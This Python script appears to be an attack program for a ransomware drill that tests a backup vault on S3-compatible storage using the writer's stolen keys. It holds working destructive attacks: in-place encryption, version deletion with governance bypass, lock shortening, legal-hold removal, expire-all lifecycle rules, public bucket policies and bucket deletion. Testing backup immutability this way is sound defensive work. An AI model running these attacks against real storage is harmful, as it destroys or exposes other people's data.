"""Attacks a vault with the writer's stolen keys. A program of its own, started by the ransomware
drill.

It reads an endpoint, a bucket and the keys from stdin and knows nothing else. The drill points it
at a store that it started itself, and at no other. Every attempt is counted by the store's answer:
an attack that is answered 200 counts as managed, whether or not it does harm.
"""

import json
import random
import sys
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from infra.objectstore.s3 import Patience, client
from zaibei.kernel.clock import Clock, SystemClock

if TYPE_CHECKING:
    from mypy_boto3_s3 import S3Client

KNOWN_MAX: Final = 5000  # versions it keeps in mind
JUNK_BYTES: Final = 4096
PATIENCE: Final = Patience(connect=timedelta(seconds=3), read=timedelta(seconds=20), attempts=1)
_REFUSED_FROM, _FAILED_FROM = 400, 500
_FAR: Final = timedelta(days=3650)


@dataclass(slots=True, kw_only=True)
class Target:
    s3: "S3Client"
    bucket: str
    prefix: str
    clock: Clock
    rng: random.Random
    known: list[tuple[str, str]] = field(default_factory=list)  # key and version, before the attack
    newest: int = 0  # of the snapshots, and of the names it took after them

    def look(self) -> None:
        """Once, at the beginning: what it unlocks or deletes of its own junk is no success."""
        found: list[tuple[str, str]] = []
        pages = self.s3.get_paginator("list_object_versions")
        for page in pages.paginate(Bucket=self.bucket, Prefix=self.prefix):
            found += [(v["Key"], v["VersionId"]) for v in page.get("Versions", [])]
            if len(found) >= KNOWN_MAX:
                break
        self.known = found
        snapshots = f"{self.prefix}snapshots/"
        numbers = [k.removeprefix(snapshots) for k, _ in found if k.startswith(snapshots)]
        self.newest = max((int(n) for n in numbers if n.isdecimal() and int(n) < 10**6), default=0)

    def some(self) -> Any:
        """The address of a version that was there."""
        key, version = self.rng.choice(self.known)
        return {"Bucket": self.bucket, "Key": key, "VersionId": version}

    def name(self) -> Any:
        key, _ = self.rng.choice(self.known)
        return {"Bucket": self.bucket, "Key": key}

    def junk(self) -> bytes:
        return self.rng.randbytes(JUNK_BYTES)


def _encrypt(t: Target) -> Any:
    """What ransomware does: read, scramble, write back under the same name."""
    where = t.name()
    body = t.s3.get_object(**where)["Body"].read()
    mask = t.rng.randbytes(64)
    scrambled = bytes(b ^ mask[n % 64] for n, b in enumerate(body[:JUNK_BYTES])) + body[JUNK_BYTES:]
    return t.s3.put_object(**where, Body=scrambled)


def _multipart(t: Target) -> Any:
    where = t.name()
    upload: Any = {**where, "UploadId": t.s3.create_multipart_upload(**where)["UploadId"]}
    part = t.s3.upload_part(**upload, PartNumber=1, Body=t.junk())
    parts: Any = {"Parts": [{"PartNumber": 1, "ETag": part["ETag"]}]}
    return t.s3.complete_multipart_upload(**upload, MultipartUpload=parts)


def _copy(t: Target) -> Any:
    source: Any = t.name()
    return t.s3.copy_object(**t.name(), CopySource=source)


def _many(t: Target) -> Any:
    """The answer of a batch is 200 also when every line of it is refused."""
    lines: Any = [{"Key": w["Key"], "VersionId": w["VersionId"]} for w in (t.some(), t.some())]
    answer = t.s3.delete_objects(Bucket=t.bucket, Delete={"Objects": lines})
    return {"ResponseMetadata": {"HTTPStatusCode": 200 if answer.get("Deleted") else 403}}


def _retain(t: Target, mode: str, by: timedelta, *, bypass: bool = False) -> Any:
    wanted: Any = {"Mode": mode, "RetainUntilDate": t.clock.now() + by}
    return t.s3.put_object_retention(**t.some(), Retention=wanted, BypassGovernanceRetention=bypass)


def _squat(t: Target) -> Any:
    """The names of the next backups, locked: nobody can take them away for a day."""
    t.newest += 1
    return t.s3.put_object(
        Bucket=t.bucket,
        Key=f"{t.prefix}snapshots/{t.newest:010d}",
        Body=t.junk(),
        ObjectLockMode="COMPLIANCE",
        ObjectLockRetainUntilDate=t.clock.now() + timedelta(days=1),
    )


def _flood(t: Target) -> Any:
    name = t.rng.randbytes(32).hex()
    folder = t.rng.choice([f"packs/{name[:2]}/", "index/", "keys/", "wal/", "forgets/", ""])
    return t.s3.put_object(Bucket=t.bucket, Key=f"{t.prefix}{folder}{name}", Body=t.junk())


def _inside(t: Target) -> Any:
    """The store's own name for a version: SeaweedFS keeps `key` as `key.versions/v_<version>`."""
    where = t.some()
    inner = f"{where['Key']}.versions/v_{where['VersionId']}"
    if t.rng.random() < 0.5:
        return t.s3.delete_object(Bucket=t.bucket, Key=inner)
    return t.s3.put_object(Bucket=t.bucket, Key=inner, Body=t.junk())


def _policy(t: Target) -> Any:
    everybody = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": "*",
                "Action": "s3:*",
                "Resource": [f"arn:aws:s3:::{t.bucket}", f"arn:aws:s3:::{t.bucket}/*"],
            }
        ],
    }
    return t.s3.put_bucket_policy(Bucket=t.bucket, Policy=json.dumps(everybody))


def _lifecycle(t: Target) -> Any:
    rules: Any = {
        "Rules": [
            {
                "ID": "everything",
                "Status": "Enabled",
                "Filter": {"Prefix": ""},
                "Expiration": {"Days": 1},
                "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
            }
        ]
    }
    return t.s3.put_bucket_lifecycle_configuration(Bucket=t.bucket, LifecycleConfiguration=rules)


_LOCK_OFF: Any = {
    "ObjectLockEnabled": "Enabled",
    "Rule": {"DefaultRetention": {"Mode": "GOVERNANCE", "Days": 1}},
}
ATTACKS: Final[dict[str, Callable[[Target], Any]]] = {
    "overwrite": lambda t: t.s3.put_object(**t.name(), Body=t.junk()),
    "encrypt in place": _encrypt,
    "overwrite by multipart": _multipart,
    "copy one object over another": _copy,
    "hide behind a delete marker": lambda t: t.s3.delete_object(**t.name()),
    "delete a version": lambda t: t.s3.delete_object(**t.some()),
    "delete a version as bypass": lambda t: t.s3.delete_object(
        **t.some(), BypassGovernanceRetention=True
    ),
    "delete many": _many,
    "shorten a lock": lambda t: _retain(t, "COMPLIANCE", timedelta(seconds=5)),
    "weaken a lock as bypass": lambda t: _retain(t, "GOVERNANCE", timedelta(days=2), bypass=True),
    "lengthen a lock by ten years": lambda t: _retain(t, "COMPLIANCE", _FAR),
    "take a legal hold off": lambda t: t.s3.put_object_legal_hold(
        **t.some(), LegalHold={"Status": "OFF"}
    ),
    "make an object public": lambda t: t.s3.put_object_acl(**t.name(), ACL="public-read-write"),
    "take the next snapshot's name": _squat,
    "flood with junk": _flood,
    "write where the store keeps versions": _inside,
    "delete the bucket": lambda t: t.s3.delete_bucket(Bucket=t.bucket),
    "suspend versioning": lambda t: t.s3.put_bucket_versioning(
        Bucket=t.bucket, VersioningConfiguration={"Status": "Suspended"}
    ),
    "change the bucket's lock": lambda t: t.s3.put_object_lock_configuration(
        Bucket=t.bucket, ObjectLockConfiguration=_LOCK_OFF
    ),
    "expire everything by lifecycle": _lifecycle,
    "open the bucket by policy": _policy,
    "open the bucket by acl": lambda t: t.s3.put_bucket_acl(
        Bucket=t.bucket, ACL="public-read-write"
    ),
}


def attack(target: Target, *, duration: timedelta, per_second: float) -> dict[str, dict[str, int]]:
    """In turn, in random order, until the time is over: per attack how often it was managed, refused or
    left without an answer."""
    from botocore.exceptions import BotoCoreError, ClientError  # noqa: PLC0415

    tally: dict[str, Counter[str]] = {name: Counter() for name in ATTACKS}
    target.look()
    assert target.known, "there is nothing to attack"
    begun, done = target.clock.monotonic(), 0
    order: list[str] = []
    while target.clock.monotonic() - begun < duration.total_seconds():
        if not order:
            order = target.rng.sample(list(ATTACKS), len(ATTACKS))
        name = order.pop()
        try:
            answer = ATTACKS[name](target)
            status = int(answer["ResponseMetadata"]["HTTPStatusCode"])
        except ClientError as error:
            status = int(error.response["ResponseMetadata"].get("HTTPStatusCode", 0))
        except BotoCoreError:
            status = _FAILED_FROM
        tally[name][_word(status)] += 1
        done += 1
        ahead = begun + done / per_second - target.clock.monotonic()
        target.clock.sleep(timedelta(seconds=max(0.0, ahead)))
    return {name: dict(counts) for name, counts in tally.items()}


def _word(status: int) -> str:
    if status >= _FAILED_FROM:
        return "failed"
    return "refused" if status >= _REFUSED_FROM else "managed"


def main() -> None:
    told = json.load(sys.stdin)
    clock = SystemClock()
    target = Target(
        s3=client(
            endpoint=told["endpoint"],
            region=told["region"],
            key=told["key"],
            secret=told["secret"],
            ca_file=Path(told["ca_file"]),
            patience=PATIENCE,
        ),
        bucket=told["bucket"],
        prefix=told["prefix"],
        clock=clock,
        rng=random.Random(told["seed"]),
    )
    json.dump(
        attack(
            target,
            duration=timedelta(seconds=told["duration_s"]),
            per_second=told["per_second"],
        ),
        sys.stdout,
    )


if __name__ == "__main__":
    main()
